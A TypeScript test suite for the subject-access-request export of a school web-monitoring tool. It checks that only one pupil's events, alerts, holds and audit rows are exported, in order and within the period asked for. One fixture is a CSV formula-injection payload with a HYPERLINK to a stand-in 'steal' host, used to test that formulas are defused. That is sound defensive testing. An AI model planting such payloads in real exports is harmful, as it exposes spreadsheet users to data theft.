import assert from 'node:assert/strict';
import { createWriteStream, mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { Writable } from 'node:stream';
import { after, describe, it } from 'node:test';
import { appendAudit } from '../../../src/casework/audit/append-audit.js';
import {
  exportSubjectAccess,
  type SubjectAccessOptions,
} from '../../../src/casework/sar/export-subject-access.js';
import { SAR_COLUMNS } from '../../../src/casework/sar/sar-columns.js';
import { serialiseEvent } from '../../../src/events/serialise-event.js';
import type { WebEvent } from '../../../src/events/web-event.js';
import { createEventInserter } from '../../../src/store/events/insert-events.js';
import { openStore, type Store } from '../../../src/store/open-store.js';
import { LESSON_TIME, sampleEvent } from '../../events/event-fixture.js';
import { DIALECTS, freshDatabase, openTestStore } from '../../support/store-dialects.js';
import { type ReadEntry, readZipByName } from './read-zip.js';

const dir = mkdtempSync(join(tmpdir(), 'sg-sar-'));
after(() => rmSync(dir, { recursive: true, force: true }));
let files = 0;

const SUBJECT = 'pupil.one';
const OTHER = 'pupil.two';
const HOUR = 3_600_000;
const EXPORT_TIME = LESSON_TIME + 48 * HOUR;
const INJECTION = '=HYPERLINK("http://bad.example/steal","click me")';
const STAFF_ADDRESS = '10.99.0.7';
const FILES = [
  'events.csv',
  'events.json',
  'searches.csv',
  'alerts.json',
  'holds.json',
  'audit.csv',
  'audit.json',
  'README.txt',
];

/** A clock that moves on a millisecond per reading, as a real one would. */
const clock = (start: number) => {
  let t = start;
  return () => t++;
};

const byTimeThenId = (a: WebEvent, b: WebEvent) =>
  a.time < b.time ? -1 : a.time > b.time ? 1 : a.id < b.id ? -1 : a.id > b.id ? 1 : 0;

/** The subject's and others' events, a hold on each of them, and audit rows about both. */
async function seed(store: Store) {
  const mine: WebEvent[] = [
    ...Array.from({ length: 23 }, (_, i) => sampleEvent(i, LESSON_TIME)),
    // Eight in one millisecond: pages (of 7) must break inside a run of equal times.
    ...Array.from({ length: 8 }, () => sampleEvent(0, LESSON_TIME + HOUR)),
    { ...sampleEvent(1, LESSON_TIME + 2 * HOUR), searchTerms: INJECTION },
    { ...sampleEvent(1, LESSON_TIME + 2 * HOUR + 5), searchTerms: '+44 7700 900123' },
  ];
  const others: WebEvent[] = [
    ...Array.from({ length: 12 }, (_, i) => ({ ...sampleEvent(i, LESSON_TIME), user: OTHER })),
    { ...sampleEvent(1, LESSON_TIME + HOUR), user: null },
  ];
  await createEventInserter(store).insert([...mine, ...others]);

  const hold = (id: string, subject: string) => ({
    id,
    kind: 'safeguarding' as const,
    case_ref: `CASE-${id}`,
    subject,
    reason: 'concern raised by form tutor',
    created_by: 'console:jane.dsl',
    created_ms: LESSON_TIME + 3 * HOUR,
    review_due_ms: LESSON_TIME + 365 * 24 * HOUR,
    released_ms: null,
    released_by: null,
    release_reason: null,
  });
  await store.db
    .insertInto('legal_holds')
    .values([hold('hold-1', SUBJECT), hold('hold-2', OTHER)])
    .execute();
  const attach = (holdId: string, event: { id: string; time: string }) => ({
    hold_id: holdId,
    event_id: event.id,
    event_time_ms: Date.parse(event.time),
  });
  await store.db
    .insertInto('legal_hold_events')
    .values([
      attach('hold-1', mine[5]!),
      attach('hold-1', mine[2]!),
      attach('hold-1', others[3]!),
      attach('hold-1', { id: '01a20cff-0000-7000-8000-000000000000', time: mine[0]!.time }),
      attach('hold-2', others[4]!),
    ])
    .execute();

  const now = clock(LESSON_TIME + 4 * HOUR);
  const view = (target: string, reason: string) =>
    appendAudit(
      store.db,
      {
        actor: 'console:jane.dsl',
        action: 'events.read',
        targetKind: 'person',
        target,
        clientAddress: STAFF_ADDRESS,
        reason,
      },
      now,
    );
  await view(SUBJECT, 'case 2026-17');
  await view(OTHER, 'case 2026-18');
  await appendAudit(
    store.db,
    { actor: 'console:jane.dsl', action: 'hold.place', targetKind: 'hold', target: 'hold-1' },
    now,
  );
  await appendAudit(
    store.db,
    { actor: 'console:jane.dsl', action: 'hold.place', targetKind: 'hold', target: 'hold-2' },
    now,
  );
  // A safeguarding alert about each pupil; the DSL looked at the subject's.
  const alert = (id: string, username: string, event: WebEvent) => ({
    row: {
      id,
      fold_key: `${username}|concern|self-harm`,
      kind: 'phrases',
      category: 'self-harm',
      level: 4,
      base_level: 4,
      title: 'Searches about self-harm and suicide',
      username,
      groups: '["pupils"]',
      device: null,
      client_address: '10.0.5.21',
      first_ms: Date.parse(event.time),
      last_ms: Date.parse(event.time),
      count: 1,
      expected: null,
      state: 'acknowledged' as const,
      state_by: 'console:jane.dsl',
      state_ms: LESSON_TIME + 5 * HOUR,
      outcome: null,
      case_ref: null,
      state_note: null,
    },
    evidence: {
      alert_id: id,
      event_id: event.id,
      time_ms: Date.parse(event.time),
      url: `https://${event.host}${event.path ?? ''}`,
      action: event.action,
      search_terms: 'self harm',
      phrases: '["self harm"]',
      snippet: 'self harm',
    },
  });
  const alerts = [alert('alert-1', SUBJECT, mine[0]!), alert('alert-2', OTHER, others[0]!)];
  await store.db
    .insertInto('alerts')
    .values(alerts.map((a) => a.row))
    .execute();
  await store.db
    .insertInto('alert_evidence')
    .values(alerts.map((a) => a.evidence))
    .execute();
  await appendAudit(
    store.db,
    { actor: 'console:jane.dsl', action: 'alert.read', targetKind: 'alert', target: 'alert-1' },
    now,
  );
  return { mine: mine.sort(byTimeThenId), others };
}

async function exportTo(
  store: Store,
  options: Partial<SubjectAccessOptions> = {},
): Promise<{ file: string; summary: Awaited<ReturnType<typeof exportSubjectAccess>> }> {
  const file = join(dir, `sar-${++files}.zip`);
  const summary = await exportSubjectAccess(store, {
    user: SUBJECT,
    actor: 'cli:dpo',
    reason: 'SAR 2026-04 from parent',
    now: clock(EXPORT_TIME),
    output: createWriteStream(file),
    pageSize: 7,
    ...options,
  });
  return { file, summary };
}

const rowsOf = (entry: ReadEntry | undefined) => {
  assert.ok(entry?.rows, 'a CSV entry');
  assert.ok(entry.bom, 'starts with a BOM for Excel');
  return { header: entry.rows[0]!, rows: entry.rows.slice(1) };
};
const column = (header: readonly string[], rows: readonly string[][], name: string) => {
  const i = header.indexOf(name);
  assert.ok(i >= 0, `column ${name}`);
  return rows.map((r) => r[i]!);
};
const jsonOf = (entry: ReadEntry | undefined): unknown => JSON.parse(entry?.text ?? 'null');

for (const dialect of DIALECTS) {
  describe(`exportSubjectAccess on ${dialect}`, () => {
    it("exports exactly the subject's records, file by file, paged", async () => {
      const store = await openTestStore(dialect);
      try {
        const { mine, others } = await seed(store);
        const progress: [number, number][] = [];
        const { file, summary } = await exportTo(store, {
          onProgress: (done, total) => progress.push([done, total]),
        });
        assert.deepEqual(progress.at(-1), [2 * mine.length, 2 * mine.length]);
        assert.ok(progress.length >= 2 * Math.ceil(mine.length / 7), 'reported page by page');
        const zip = readZipByName(file);
        assert.deepEqual([...zip.keys()], FILES);
        assert.deepEqual(summary.files, FILES);

        const events = rowsOf(zip.get('events.csv'));
        assert.deepEqual(
          events.header,
          SAR_COLUMNS.events.map((c) => c.header),
        );
        assert.deepEqual(
          column(events.header, events.rows, 'id'),
          mine.map((e) => e.id),
        );
        assert.ok(column(events.header, events.rows, 'user').every((u) => u === SUBJECT));
        assert.deepEqual(
          column(events.header, events.rows, 'local_time').slice(0, 1),
          ['2026-11-24 10:00:00'], // GMT in November
        );
        assert.deepEqual(
          jsonOf(zip.get('events.json')),
          mine.map((e) => JSON.parse(serialiseEvent(e))),
        );

        const searches = rowsOf(zip.get('searches.csv'));
        const searched = mine.filter((e) => e.searchTerms !== null);
        assert.ok(searched.length >= 4);
        assert.deepEqual(
          column(searches.header, searches.rows, 'event_id'),
          searched.map((e) => e.id),
        );
        const terms = column(searches.header, searches.rows, 'search_terms');
        assert.ok(terms.includes(`'${INJECTION}`), 'formula defused with an apostrophe');
        assert.ok(terms.includes("'+44 7700 900123"));
        assert.ok(!terms.some((t) => /^[=+\-@]/.test(t)), 'no cell starts a formula');
        assert.ok(column(events.header, events.rows, 'search_terms').includes(`'${INJECTION}`));

        const alerts = jsonOf(zip.get('alerts.json')) as Record<string, unknown>[];
        assert.deepEqual(
          alerts.map((a) => [a['id'], a['state'], a['level']]),
          [['alert-1', 'acknowledged', 4]],
        );
        const evidence = alerts[0]!['evidence'] as Record<string, unknown>[];
        assert.equal(evidence.length, 1);
        assert.ok(
          mine.some((e) => e.id === evidence[0]!['eventId']),
          'their own request',
        );
        assert.equal(evidence[0]!['searchTerms'], 'self harm');

        const holds = jsonOf(zip.get('holds.json')) as Record<string, unknown>[];
        assert.equal(holds.length, 1);
        assert.equal(holds[0]!['id'], 'hold-1');
        assert.deepEqual(holds[0]!['eventIds'], [mine[2]!.id, mine[5]!.id]);
        assert.equal(holds[0]!['otherPeoplesEvents'], 1);
        assert.equal(holds[0]!['eventsNotInActiveStore'], 1);

        const audit = rowsOf(zip.get('audit.csv'));
        assert.deepEqual(column(audit.header, audit.rows, 'action'), [
          'events.read',
          'hold.place',
          'alert.read',
          'sar.export',
        ]);
        assert.deepEqual(column(audit.header, audit.rows, 'target'), [
          SUBJECT,
          'hold-1',
          'alert-1',
          SUBJECT,
        ]);
        assert.deepEqual(column(audit.header, audit.rows, 'actor'), [
          'console:jane.dsl',
          'console:jane.dsl',
          'console:jane.dsl',
          'cli:dpo',
        ]);
        const auditJson = jsonOf(zip.get('audit.json')) as Record<string, unknown>[];
        assert.deepEqual(
          auditJson.map((a) => a['seq']),
          column(audit.header, audit.rows, 'seq').map(Number),
        );

        const everything = [...zip.values()].map((e) => e.text ?? '').join('\n');
        for (const other of others) {
          assert.ok(!everything.includes(other.id), `another person's event ${other.id} absent`);
        }
        assert.ok(!everything.includes(OTHER), 'the other pupil is not named');
        assert.ok(!everything.includes('hold-2'));
        assert.ok(!everything.includes('alert-2'), "another pupil's alert absent");
        assert.ok(!everything.includes(STAFF_ADDRESS), "staff members' addresses left out");

        const readme = zip.get('README.txt')?.text ?? '';
        assert.match(readme, /Subject access export for pupil\.one/);
        assert.match(
          readme,
          new RegExp(`events\\.csv, events\\.json\\s+\\(${mine.length} records\\)`),
        );
        assert.match(readme, /content of web pages is never recorded/);
        assert.match(readme, /alerts\.json\s+\(1 record\)/);
        assert.match(readme, /may be withheld|to be withheld/);
        assert.match(readme, /only when the export is made with\s+--include-archives/);
        assert.match(readme, /SAR 2026-04 from parent/);
        assert.doesNotMatch(readme, /No records about/);

        assert.deepEqual(
          {
            events: summary.events,
            searches: summary.searches,
            holds: summary.holds,
            audit: summary.auditRecords,
            alerts: summary.alerts,
          },
          { events: mine.length, searches: searched.length, holds: 1, audit: 4, alerts: 1 },
        );
      } finally {
        await store.close();
      }
    });

    it('records the export in the audit trail before writing any data', async () => {
      // A second connection looks at the first byte written: the row must be committed by then.
      const { url, dataDir } = await freshDatabase(dialect);
      const store = await openStore({ url, dataDir });
      const observer = await openStore({ url, dataDir, migrate: false });
      try {
        await seed(store);
        let auditedBeforeFirstByte: boolean | undefined;
        const output = new Writable({
          write(_chunk, _encoding, callback) {
            if (auditedBeforeFirstByte !== undefined) return callback();
            observer.db
              .selectFrom('audit_log')
              .select('seq')
              .where('action', '=', 'sar.export')
              .where('target', '=', SUBJECT)
              .execute()
              .then((rows) => {
                auditedBeforeFirstByte = rows.length === 1;
                callback();
              }, callback);
          },
        });
        const summary = await exportSubjectAccess(store, {
          user: SUBJECT,
          actor: 'cli:dpo',
          reason: 'SAR 2026-05',
          clientAddress: '10.0.0.1',
          now: clock(EXPORT_TIME),
          output,
        });
        assert.equal(auditedBeforeFirstByte, true);
        const row = await store.db
          .selectFrom('audit_log')
          .selectAll()
          .where('seq', '=', summary.auditSeq)
          .executeTakeFirstOrThrow();
        assert.deepEqual(
          [row.actor, row.action, row.target_kind, row.target, row.reason, row.client_address],
          ['cli:dpo', 'sar.export', 'person', SUBJECT, 'SAR 2026-05', '10.0.0.1'],
        );
        assert.equal(Number(row.time_ms), EXPORT_TIME + 1);
      } finally {
        await observer.close();
        await store.close();
      }
    });

    it('gives a person with no records a valid zip that says so', async () => {
      const store = await openTestStore(dialect);
      try {
        await seed(store);
        const { file, summary } = await exportTo(store, { user: 'nobody.here' });
        const zip = readZipByName(file);
        assert.deepEqual([...zip.keys()], FILES);
        assert.deepEqual(rowsOf(zip.get('events.csv')).rows, []);
        assert.deepEqual(
          rowsOf(zip.get('events.csv')).header,
          SAR_COLUMNS.events.map((c) => c.header),
        );
        assert.deepEqual(rowsOf(zip.get('searches.csv')).rows, []);
        assert.deepEqual(jsonOf(zip.get('events.json')), []);
        assert.deepEqual(jsonOf(zip.get('holds.json')), []);
        assert.deepEqual(
          column(rowsOf(zip.get('audit.csv')).header, rowsOf(zip.get('audit.csv')).rows, 'action'),
          ['sar.export'],
        );
        assert.match(zip.get('README.txt')?.text ?? '', /No records about nobody\.here were found/);
        assert.equal(summary.events, 0);
      } finally {
        await store.close();
      }
    });

    it('keeps to the period asked for', async () => {
      const store = await openTestStore(dialect);
      try {
        const { mine } = await seed(store);
        const fromMs = LESSON_TIME + 5;
        const toMs = LESSON_TIME + HOUR + 1; // takes in the eight events at LESSON_TIME + HOUR
        const { file, summary } = await exportTo(store, { fromMs, toMs });
        const want = mine.filter((e) => Date.parse(e.time) >= fromMs && Date.parse(e.time) < toMs);
        const events = rowsOf(readZipByName(file).get('events.csv'));
        assert.deepEqual(
          column(events.header, events.rows, 'id'),
          want.map((e) => e.id),
        );
        assert.equal(summary.events, want.length);
        assert.ok(want.length > 7 && want.length < mine.length);
      } finally {
        await store.close();
      }
    });

    it('adds archived events: only the subject’s, in the period, each once', async () => {
      const store = await openTestStore(dialect);
      try {
        const { mine } = await seed(store);
        const oldTime = LESSON_TIME - 400 * 24 * HOUR;
        const archived = Array.from({ length: 9 }, (_, i) => sampleEvent(i, oldTime));
        const archive: WebEvent[] = [
          ...archived,
          { ...sampleEvent(3, oldTime), user: OTHER },
          mine[0]!, // archived and not yet deleted from the active table
        ];
        const periods: unknown[] = [];
        const { file, summary } = await exportTo(store, {
          extraEvents: async function* (period) {
            periods.push(period);
            yield* archive;
          },
        });
        const period = { fromMs: null, toMs: EXPORT_TIME };
        assert.deepEqual(periods, [period, period, period], 'once per events.csv, .json, searches');
        const zip = readZipByName(file);
        const events = rowsOf(zip.get('events.csv'));
        const want = [...archived, ...mine].sort(byTimeThenId).map((e) => e.id);
        assert.deepEqual(column(events.header, events.rows, 'id'), want);
        assert.deepEqual(
          (jsonOf(zip.get('events.json')) as { id: string }[]).map((e) => e.id),
          want,
        );
        assert.equal(summary.archivedEvents, archived.length + 1);
        assert.equal(summary.events, want.length);
        assert.match(
          zip.get('README.txt')?.text ?? '',
          new RegExp(`ARE included: ${archived.length + 1} records come from the archives`),
        );
      } finally {
        await store.close();
      }
    });

    it('refuses an export without a reason, and audits nothing', async () => {
      const store = await openTestStore(dialect);
      try {
        const output = createWriteStream(join(dir, `sar-${++files}.zip`));
        await assert.rejects(
          exportSubjectAccess(store, {
            user: SUBJECT,
            actor: 'cli:dpo',
            reason: '  ',
            now: clock(EXPORT_TIME),
            output,
          }),
          /needs a reason/,
        );
        output.destroy();
        const rows = await store.db.selectFrom('audit_log').select('seq').execute();
        assert.equal(rows.length, 0);
      } finally {
        await store.close();
      }
    });
  });
}

describe('SAR_COLUMNS', () => {
  it('gives events.csv a column for every WebEvent field', () => {
    const event = sampleEvent(1, LESSON_TIME);
    const headers = new Set(SAR_COLUMNS.events.map((c) => c.header.replace(/_/g, '')));
    const renamed: Record<string, string> = { time: 'timeutc', node: 'gatewaynode' };
    for (const field of Object.keys(event).filter((f) => f !== 'kind')) {
      const want = renamed[field] ?? field.toLowerCase();
      assert.ok(headers.has(want), `column for ${field}`);
    }
  });
});
